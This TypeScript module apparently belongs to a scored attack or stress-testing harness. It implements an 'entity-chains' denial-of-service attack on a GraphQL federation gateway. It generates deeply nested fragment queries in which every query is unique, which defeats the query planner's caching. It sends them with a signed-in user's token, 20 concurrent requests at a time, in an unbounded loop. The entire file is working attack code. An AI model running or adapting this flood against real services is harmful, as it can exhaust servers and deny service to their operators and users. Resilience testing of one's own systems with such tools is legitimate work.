import type { Attack } from './attack.ts';
import { NODE_TYPES } from './attacked-graph.ts';
import { sendPost } from './send-post.ts';

/** Number of requests in flight at a time. */
const CONCURRENCY = 20;
/** Levels and types of each level: as many selections as the default limits allow, with fragments expanded. */
const FORMS = [
  { levels: 8, types: 2 },
  { levels: 5, types: 3 },
  { levels: 4, types: 5 },
] as const;

/** Writes fragments on some types at each level, each once. The first levels encode the number, which makes each operation different. */
function chainOf(index: number): string {
  const { levels, types } = FORMS[index % FORMS.length] ?? FORMS[0];
  const fragments = Array.from({ length: levels }, (_level, level) => {
    const parts = Array.from({ length: types }, (_type, position) => {
      const type = (Math.floor(index / NODE_TYPES ** (level % 4)) + position) % NODE_TYPES;
      const inner = level + 1 === levels ? `title${type}` : `related { ...F${level + 1} }`;
      return `... on Node${type} { ${inner} }`;
    });
    return `fragment F${level} on Node { ${parts.join(' ')} }`;
  });
  return `{ node${index % 3} { ...F0 } } ${fragments.join(' ')}`;
}

/**
 * Sends operations of a signed-in user that chain entity types whose fields are each in another subgraph, each new to the planner, 20 at a
 * time.
 */
export const entityChains: Attack = {
  name: 'entity-chains',
  point: 2,
  minRate: 1,
  async run(target, tally, signal) {
    const headers = { authorization: `Bearer ${target.userToken}` };
    const work = async (): Promise<void> => {
      while (!signal.aborted) {
        await sendPost(target, JSON.stringify({ query: chainOf(tally.sent) }), { headers, tally, signal });
      }
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, work));
  },
};
